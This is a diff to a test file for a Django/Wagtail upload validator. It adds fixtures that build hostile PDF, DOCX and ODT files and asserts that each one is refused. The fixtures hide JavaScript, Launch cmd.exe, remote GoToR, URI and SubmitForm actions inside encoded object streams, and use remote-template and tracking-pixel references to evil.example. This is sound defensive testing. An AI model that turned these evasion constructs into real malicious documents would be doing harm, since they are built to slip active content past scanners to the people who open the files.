@@ -2,6 +2,7 @@
 content, files that are not what their name says. Each is refused with a message an
 editor can act on; ordinary files still go through."""
 
+import base64
 import io
 import zipfile
 import zlib
@@ -16,6 +17,7 @@ from wagtail.models import Collection
 
 import pytest
 from PIL import Image as PillowImage
+from pypdf import PdfWriter
 
 pytestmark = pytest.mark.django_db
 
@@ -33,11 +35,62 @@ def picture(fmt: str = "PNG", size=(64, 48), mode: str = "RGB") -> bytes:
 
 
 def pdf(*objects: bytes) -> bytes:
-    body = b"".join(
-        b"%d 0 obj\n%s\nendobj\n" % (number, obj)
-        for number, obj in enumerate(objects, start=1)
+    """A well-formed PDF (header, objects, cross-reference table, trailer) whose
+    objects are numbered from 1, the first being the catalog."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, obj in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
+    out += b"startxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+def ascii_hex(data: bytes) -> tuple[bytes, bytes]:
+    return b"/ASCIIHexDecode", data.hex().encode() + b">"
+
+
+def ascii_85(data: bytes) -> tuple[bytes, bytes]:
+    return b"/ASCII85Decode", base64.a85encode(data) + b"~>"
+
+
+def pdf_with_object_stream(hidden: bytes, encode) -> bytes:
+    """A PDF 1.5 file whose catalog points at object 3, which lives in an object
+    stream encoded with ``encode`` (``ascii_hex``, ``ascii_85``), indexed by a
+    cross-reference stream: nothing of it appears in clear in the file."""
+    header = b"3 0 "
+    filter_name, packed = encode(header + hidden)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+        b"<< /Type /Pages /Kids [] /Count 0 >>",
+        None,  # object 3, inside object 4
+        b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream"
+        % (len(header), filter_name, len(packed), packed),
+    ]
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = {}
+    for number, obj in enumerate(objects, start=1):
+        if obj is not None:
+            offsets[number] = len(out)
+            out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
+    offsets[5] = len(out)
+    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
+    for number in range(1, 6):
+        if number == 3:
+            rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")
+        else:
+            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
+    table = b"".join(rows)
+    out += (
+        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
+        b"stream\n%s\nendstream\nendobj\n" % (len(table), table)
     )
-    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
+    return bytes(out)
 
 
 PLAIN_PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] >>")
@@ -71,6 +124,40 @@ ODT_PARTS = {
     "mimetype": b"application/vnd.oasis.opendocument.text",
     "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="x"/>',
 }
+
+
+def encrypted_pdf() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+ENCRYPTED_PDF = encrypted_pdf()
+RELATIONSHIPS = b"http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE_RELATIONSHIPS = (
+    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+)
+REMOTE_TEMPLATE_RELS = (
+    b'<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
+    b'Type="%s/attachedTemplate" Target="https://evil.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>' % (RELATIONSHIPS, OFFICE_RELATIONSHIPS)
+)
+HYPERLINK_RELS = (
+    b'<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
+    b'Type="%s/hyperlink" Target="https://clinic.example/" '
+    b'TargetMode="External"/></Relationships>' % (RELATIONSHIPS, OFFICE_RELATIONSHIPS)
+)
+# A web link behind a click and a jump to page 1 on opening are ordinary.
+PDF_WITH_LINKS = pdf(
+    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
+    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+    b"/A << /S /URI /URI (https://clinic.example/) >> >>",
+)
 
 
 @pytest.fixture
@@ -194,6 +281,11 @@ def test_multiple_uploader_uses_the_same_checks(editor_client, media):
     ("name", "content"),
     [
         ("leaflet.pdf", PLAIN_PDF),
+        ("links.pdf", PDF_WITH_LINKS),
+        (
+            "links.docx",
+            archive({**DOCX_PARTS, "word/_rels/document.xml.rels": HYPERLINK_RELS}),
+        ),
         ("leaflet.docx", archive(DOCX_PARTS)),
         ("prices.xlsx", archive(XLSX_PARTS)),
         ("leaflet.odt", archive(ODT_PARTS)),
@@ -228,7 +320,7 @@ REFUSED_DOCUMENTS = [
         pdf(
             b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
         ),
-        "contains scripts, actions or attached files (JS, JavaScript)",
+        "contains scripts, actions or attached files (JS, JavaScript, OpenAction",
     ),
     (
         "leaflet.pdf",
@@ -244,6 +336,54 @@ REFUSED_DOCUMENTS = [
         "leaflet.pdf",
         pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>"),
         "(EmbeddedFiles)",
+    ),
+    *[
+        (
+            "leaflet.pdf",
+            pdf_with_object_stream(action, encode),
+            expected,
+        )
+        for encode in (ascii_hex, ascii_85)
+        for action, expected in [
+            (b"<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
+            (b"<< /S /Launch /F (cmd.exe) >>", "Launch"),
+            (b"<< /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >>", "GoToR"),
+            (b"<< /S /URI /URI (https://evil.example/track) >>", "OpenAction URI"),
+            (
+                b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
+                "SubmitForm",
+            ),
+        ]
+    ],
+    (
+        "leaflet.pdf",
+        pdf(
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://x.example) >> >> >>",
+        ),
+        "AA URI",
+    ),
+    ("leaflet.pdf", ENCRYPTED_PDF, "encrypted or password-protected"),
+    ("leaflet.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type", "damaged or built in a way"),
+    (
+        "leaflet.docx",
+        archive({**DOCX_PARTS, "word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS}),
+        "loads content from outside itself (attachedTemplate",
+    ),
+    (
+        "leaflet.odt",
+        archive(
+            {
+                **ODT_PARTS,
+                "content.xml": b'<?xml version="1.0"?><office:document-content '
+                b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+                b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+                b'xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image '
+                b'xlink:href="https://evil.example/pixel.png"/></office:document-content>',
+            }
+        ),
+        "loads content from outside itself (https://evil.example/pixel.png)",
     ),
     ("leaflet.docx", b"MZ\x90\x00not a zip", "not a valid .docx document"),
     ("leaflet.docx", archive(XLSX_PARTS), "its content is another kind of document"),
